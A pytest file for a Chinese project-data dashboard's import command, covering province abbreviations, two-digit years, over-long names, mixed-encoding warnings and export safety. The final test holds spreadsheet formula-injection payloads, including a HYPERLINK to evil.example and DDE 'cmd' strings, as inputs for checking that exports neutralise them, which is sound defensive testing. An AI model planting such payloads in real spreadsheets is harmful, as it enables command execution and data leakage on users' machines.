"""The third hostile round: the classes round 2 left refused or only warned about (province
abbreviations, two-digit years, names of any length, the mixed-encoding message, full-width formula
starts in downloads). One corpus file each (``tests/corpus/make_corpus.py``, ``write_hostile3``),
imported through the command line with ``--json`` and its outcome stated in both languages."""

from __future__ import annotations

import copy
import io
from decimal import Decimal
from pathlib import Path

import pandas as pd
import pytest
from importkit import CORPUS, file_fingerprint, problem_codes, run_json, stored_projects
from openpyxl import load_workbook

from dashboard.cli import main
from dashboard.config import DATA_DIR
from dashboard.ingest import places, values


def imported(db: Path, capsys: pytest.CaptureFixture[str], name: str, *extra: str) -> dict:
    code, out = run_json(capsys, "import", str(CORPUS / name), "--db", str(db), "--json", *extra)
    assert code == 0, out
    return out


# ---------------------------------------------------------------------------- province abbreviations

def test_province_abbreviations_in_a_province_column(empty_db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """苏 beside 无锡, 浙 alone, 蜀 / 黔 / 滇 / 陇 / 秦 (the second abbreviations), 蒙, 港; 苏州 in the
    city column stays Suzhou; 苏北 and 京津冀 are no abbreviation: regions (s31-leftovers11), 苏北 Jiangsu's (stored
    with no city, said), 京津冀 across three provinces (refused, said so)."""
    before = file_fingerprint(empty_db)
    code, out = run_json(capsys, "import", str(CORPUS / "province_abbreviations.csv"), "--db", str(empty_db),
                         "--json", "--lang", "en")
    assert code == 1 and out["error"] == "has_errors"
    assert problem_codes(out["errors"]) == [(15, "place_region_across")]
    assert [e["value"] for e in out["errors"]] == ["京津冀"]
    assert (14, "place_region_in_province") in problem_codes(out["warnings"])
    assert file_fingerprint(empty_db) == before
    imported(empty_db, capsys, "province_abbreviations.csv", "--skip-invalid")
    assert {k: v[:2] for k, v in stored_projects(empty_db).items()} == {
        "苏锡先进封装项目": ("320000", "320200"), "浙江省级储能项目": ("330000", None),
        "沪上集成电路项目": ("310000", "310100"), "苏州城市名项目": ("320000", "320500"),
        "苏省全称项目": ("320000", "320100"), "蜀地锂电项目": ("510000", "510100"),
        "黔贵数据中心项目": ("520000", "520100"), "滇云光伏项目": ("530000", None),
        "陇甘风电项目": ("620000", "620100"), "秦陕航空项目": ("610000", "610100"),
        "蒙鄂尔多斯氢能项目": ("150000", "150600"), "港岛芯片设计项目": ("810000", None),
        "苏北区域项目": ("320000", None),
    }


def test_province_abbreviations_in_a_place_column(empty_db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """苏·无锡 and 苏 无锡 are Jiangsu's Wuxi; 苏州市工业园区 is Suzhou (a name wins over an
    abbreviation); 苏/鼓楼区 is Jiangsu (two 鼓楼区 there); 京 朝阳区 is Beijing's, not Liaoning's 朝阳;
    苏某某园区 is refused, in both languages, with its row and column."""
    for lang in ("zh", "en"):
        code, out = run_json(capsys, "import", str(CORPUS / "place_abbreviations.csv"), "--db", str(empty_db),
                             "--json", "--dry-run", "--lang", lang)
        assert code == 1 and problem_codes(out["errors"]) == [(10, "place_unknown")]
        [e] = out["errors"]
        assert e["column"] == "建设地点" and e["value"] == "苏某某园区" and "苏某某园区" in e["message"]
    imported(empty_db, capsys, "place_abbreviations.csv", "--skip-invalid")
    assert {k: v[:2] for k, v in stored_projects(empty_db).items()} == {
        "间隔号项目": ("320000", "320200"), "空格项目": ("320000", "320200"), "苏州名称项目": ("320000", "320500"),
        "沪市项目": ("310000", "310100"), "渝项目": ("500000", None), "区名项目": ("320000", None),
        "京区名项目": ("110000", "110100"), "粤深项目": ("440000", "440300"),
    }


def test_every_abbreviation_of_the_list(place_index: places.PlaceIndex) -> None:
    """The 39 abbreviations (34 provinces, five with a second one) each read alone, and with 省 or 市
    where the full name ends so; the list names only provinces of the regions table."""
    rows = pd.read_csv(DATA_DIR / "region_abbreviations.csv", dtype=str)
    assert len(rows) == 39 and rows["abbreviation"].is_unique and rows["source"].str.contains("1409").all()
    assert set(rows["code"]) == set(place_index.province_names)
    for abbreviation, code in zip(rows["abbreviation"], rows["code"], strict=True):
        assert place_index.resolve(abbreviation)[0] == code, abbreviation
        suffix = place_index.province_names[code][-1]
        if suffix in "省市" and abbreviation + suffix != "津市":
            assert place_index.resolve(abbreviation + suffix)[0] == code
    assert place_index.resolve("津市")[:2] == ("430000", "430700")  # 津市 is a city of Hunan: a name wins
    assert place_index.resolve("新市")[0] is None  # 新疆 is no 市: 新市 (a town's name) is not Xinjiang


@pytest.mark.parametrize(("text", "expected"), [
    ("苏州", ("320000", "320500")), ("宁波", ("330000", "330200")), ("青岛", ("370000", "370200")),
    ("台州", ("330000", "331000")), ("吉林", ("220000", None)), ("新城区", (None, None)),
    ("苏北", (None, None)), ("京津冀", (None, None)), ("沪苏", (None, None)), ("川藏", (None, None)),
    ("苏无锡市新吴区", ("320000", "320200")), ("浙长兴", ("330000", "330500")),
    ("京石家庄", ("130000", "130100")),   # a place of another province after it: read as before, without it
])
def test_a_name_always_wins_over_an_abbreviation(place_index: places.PlaceIndex, text: str,
                                                 expected: tuple[str | None, str | None]) -> None:
    assert place_index.resolve(text)[:2] == expected


def test_nothing_the_place_index_read_before_reads_differently(place_index: places.PlaceIndex) -> None:
    """Every region's name and short name, alone and after its parents' names and short names, and
    every county short name, resolve exactly as they do without abbreviations (one-character tokens
    were never read before, so an abbreviation only adds answers where there were none)."""
    without = copy.copy(place_index)
    without.abbreviations = {}
    regions = pd.read_csv(DATA_DIR / "regions.csv", dtype=str, keep_default_na=False).set_index("code")
    texts = set(place_index.county_short)
    for code, r in regions.iterrows():
        texts.update([r["name"], r["short_name"]])
        if r["parent_code"]:
            p = regions.loc[r["parent_code"]]
            texts.update([p["name"] + r["name"], p["name"] + "/" + r["name"], p["short_name"] + r["name"],
                          p["name"] + r["short_name"]])
            if p["parent_code"]:
                g = regions.loc[p["parent_code"]]
                texts.update([g["name"] + p["name"] + r["name"], g["short_name"] + p["short_name"] + r["short_name"]])
    assert len(texts) > 20_000
    assert [t for t in sorted(texts) if place_index.resolve_detail(t) != without.resolve_detail(t)] == []


# ---------------------------------------------------------------------------------- two-digit years

def test_two_digit_years_are_read_and_said(empty_db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """'24, 24年3月, 24-26年, 24.3-26.12, 24 in year columns: read (00-68 as 20xx, 69-99 as 19xx) with a
    warning naming the row, column and the year read; 10年 in a period column may be a duration and is
    left empty, said; 85 is read as 1985 and then left empty as before 1990; 24年至2026年 is 2024-2026 (it
    was 2026 alone, unsaid). An amount of 24 and a name with 24 in it are untouched."""
    for lang, said in (("zh", "已读作 2024–2026 年"), ("en", "read as 2024–2026")):
        code, out = run_json(capsys, "import", str(CORPUS / "two_digit_years.csv"), "--db", str(empty_db),
                             "--json", "--dry-run", "--lang", lang)
        assert code == 0 and out["errors"] == []
        assert [(w["row"], w["column"], w["code"]) for w in out["warnings"]] == [
            (2, "开工年份", "year_two_digit"), (2, "竣工年份", "year_two_digit"),
            (3, "开工年份", "year_two_digit"), (3, "竣工年份", "year_two_digit"),
            (4, "建设年限", "year_two_digit"), (5, "建设年限", "year_two_digit"),
            (6, "开工年份", "year_two_digit"), (6, "竣工年份", "year_two_digit"),
            (7, "建设年限", "year_two_digit_unclear"),
            (8, "开工年份", "year_two_digit"), (8, "竣工年份", "year_two_digit"),
            (9, "开工年份", "year_two_digit"), (9, "开工年份", "year_implausible"),
            (11, "建设年限", "year_two_digit")]
        assert said in out["warnings"][4]["message"] and out["warnings"][4]["value"] == "24-26年"
        assert "2024" in out["warnings"][0]["message"] and "1985" in out["warnings"][11]["message"]
    imported(empty_db, capsys, "two_digit_years.csv")
    got = {k: (v[2], v[3], v[4]) for k, v in stored_projects(empty_db).items()}
    assert got == {
        "撇号年份项目": (Decimal("24.00"), 2024, 2026), "年月项目": (Decimal("1000.00"), 2024, 2026),
        "区间项目": (Decimal("2000.00"), 2024, 2026), "点号区间项目": (Decimal("3000.00"), 2024, 2026),
        "裸数字项目": (Decimal("4000.00"), 2024, 2026), "年数项目": (Decimal("5000.00"), None, None),
        "九八年项目": (Decimal("6000.00"), 1998, 1999), "八五年项目": (Decimal("7000.00"), None, None),
        "24小时智慧物流项目": (Decimal("8000.00"), 2024, 2026), "混合区间项目": (Decimal("9000.00"), 2024, 2026),
    }


@pytest.mark.parametrize(("cell", "start_column", "period_column"), [
    ("24", (2024, 2024), None), ("'24", (2024, 2024), (2024, 2024)), ("’25", (2025, 2025), (2025, 2025)),
    ("24年", (2024, 2024), None), ("24年3月", (2024, 2024), (2024, 2024)), ("24-26", (2024, 2026), (2024, 2026)),
    ("24~26年", (2024, 2026), (2024, 2026)), ("24至26年", (2024, 2026), (2024, 2026)),
    ("24-12", (2024, 2024), (2024, 2024)),        # December 2024, as 2026-12 is read
    ("24-2026", (2024, 2026), (2024, 2026)), ("24年至2026年", (2024, 2026), (2024, 2026)),   # one full year beside
    ("2024年3月-26年12月", (2024, 2026), (2024, 2026)),
    ("2024-12", "as before", "as before"), ("2024-26", "as before", "as before"), ("2024", "as before", "as before"),
    ("68", (2068, 2068), None), ("69", (1969, 1969), None), ("00", (2000, 2000), None),
    ("第24批", "unparsable", "unparsable"), ("24/26", "unparsable", "unparsable"),
    ("24年13月", "unparsable", "unparsable"), ("3年", "unparsable", "unparsable"),
])
def test_two_digit_year_cells(cell: str, start_column: tuple[int, int] | str, period_column: tuple | str | None
                              ) -> None:
    for period, expected in ((False, start_column), (True, period_column)):
        first, last, codes = values.parse_years(pd.Series([cell]), period=period)
        if expected == "unparsable":
            assert codes.iloc[0] == "year_unparsable"
        elif expected == "as before":  # full years: read as they always were, nothing said
            assert codes.iloc[0] is None and (first[0], last[0]) == values._years_of(cell)[:2]
        elif expected is None:
            assert codes.iloc[0] == "year_two_digit_unclear" and pd.isna(first[0])
        else:
            assert codes.iloc[0] == "year_two_digit" and (first[0], last[0]) == expected


# ------------------------------------------------------------------------------------- name length

@pytest.mark.parametrize("file", ["name_over_limit.csv", "name_over_limit.xlsx"])
def test_a_name_over_the_hard_bound_refuses_its_row(empty_db: Path, capsys: pytest.CaptureFixture[str],
                                                    file: str) -> None:
    """1,001 and 100,000 characters (a 5,000-character one in a workbook): the row is refused with its
    row, column and reason, in both languages; the file follows the usual all-or-nothing rule, and
    --skip-invalid imports the rest (1,000 characters is still a name, with the warning)."""
    refused = {"name_over_limit.csv": [(4, 1_001), (5, 100_000)], "name_over_limit.xlsx": [(3, 5_000)]}[file]
    before = file_fingerprint(empty_db)
    for lang, said in (("zh", "个字符的上限"), ("en", "over the limit of 1,000")):
        code, out = run_json(capsys, "import", str(CORPUS / file), "--db", str(empty_db), "--json", "--lang", lang)
        assert code == 1 and out["error"] == "has_errors"
        assert [(e["row"], e["column"], e["code"]) for e in out["errors"]] == [
            (row, "项目名称", "name_over_limit") for row, _n in refused]
        for e, (_row, n) in zip(out["errors"], refused, strict=True):
            assert said in e["message"] and f"{n:,}" in e["message"] and len(e["value"]) < 100
    assert file_fingerprint(empty_db) == before
    out = imported(empty_db, capsys, file, "--skip-invalid")
    assert out["rows_rejected"] == len(refused)
    names = list(stored_projects(empty_db))
    assert max(len(n) for n in names) <= 1_000
    if file.endswith(".csv"):
        assert names == ["正常名称项目", "长" * 998 + "项目", "另一正常项目"]
        assert [(w["row"], w["code"]) for w in out["warnings"]] == [(3, "name_too_long")]
    else:
        assert names == ["工作簿正常项目"]


# ----------------------------------------------------------------------------------- mixed encodings

def test_mixed_encoding_message_names_the_encoding_most_lines_hold(empty_db: Path,
                                                                   capsys: pytest.CaptureFixture[str]) -> None:
    """Nine GBK lines and two UTF-8 ones: the message counts both, names GBK first and lists the UTF-8
    lines to check (it said "mostly UTF-8"); every row is read right."""
    for lang, said in (("zh", "9 行为 GBK，2 行为 UTF-8"), ("en", "9 are GBK and 2 are UTF-8")):
        code, out = run_json(capsys, "import", str(CORPUS / "mixed_mostly_gbk.csv"), "--db", str(empty_db),
                             "--json", "--dry-run", "--lang", lang)
        assert code == 0 and out["encoding"] == "gbk+utf-8"
        [w] = out["warnings"]
        assert w["code"] == "mixed_encoding" and said in w["message"] and "5, 11" in w["message"]
        assert "UTF-8" not in w["message"].split("GBK")[0]   # GBK, the majority, is named first
    imported(empty_db, capsys, "mixed_mostly_gbk.csv")
    got = stored_projects(empty_db)
    assert len(got) == 10
    assert got["无锡物联网感知产业基地"][:3] == ("320000", "320200", Decimal("3000.00"))
    assert got["苏州生物医药产业园"][:3] == ("320000", "320500", Decimal("2000.00"))


def test_mixed_encoding_message_when_most_lines_are_utf8(empty_db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out = run_json(capsys, "import", str(CORPUS / "mixed_encoding.csv"), "--db", str(empty_db), "--json",
                         "--dry-run", "--lang", "en")
    assert code == 0 and out["encoding"] == "utf-8+gbk"
    [w] = out["warnings"]
    assert "2 are UTF-8 and 1 is GBK" in w["message"] and "Check the GBK line: 3." in w["message"]


# ------------------------------------------------------------------------------------------ downloads

def test_full_width_formula_starts_are_neutralised_in_exports(empty_db: Path, tmp_path: Path,
                                                              capsys: pytest.CaptureFixture[str]) -> None:
    """Names and owners starting with ＝ ＋ － ﹦ ＠ are stored as written, and exported (CSV read as text,
    XLSX opened with openpyxl) with a ' in front; a ＝ inside a name and the numbers are untouched."""
    imported(empty_db, capsys, "fullwidth_formulas.csv")
    hostile = ["＝HYPERLINK(http://evil.example/?q=A1)", "＋cmd|' /C calc'!A0", "－2＋3＋cmd|' /C calc'!A0"]
    assert list(stored_projects(empty_db)) == [*hostile, "正常项目＝名称中间"]
    for suffix in ("csv", "xlsx"):
        target = tmp_path / f"projects.{suffix}"
        assert main(["export", "--table", "projects", "-o", str(target), "--db", str(empty_db)]) == 0
        capsys.readouterr()
        if suffix == "csv":
            text = target.read_bytes().decode("utf-8-sig")
            table = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
        else:
            wb = load_workbook(target)
            cells = [c for r in wb.active.iter_rows() for c in r]
            assert all(c.data_type != "f" for c in cells)
            table = pd.DataFrame(wb.active.values)
            table = table.iloc[1:].set_axis(list(table.iloc[0]), axis=1)
            assert isinstance(table["total_investment_wan"].iloc[0], float | int)
        table = table.sort_values("project_id", key=lambda c: c.astype(int))
        assert table["name"].tolist() == ["'" + h for h in hostile] + ["正常项目＝名称中间"]
        assert table["owner"].tolist()[:3] == ["'＠SUM(1)", "普通单位", "'﹦1+1"]
        assert table["owner"].tolist()[3] == "'－"
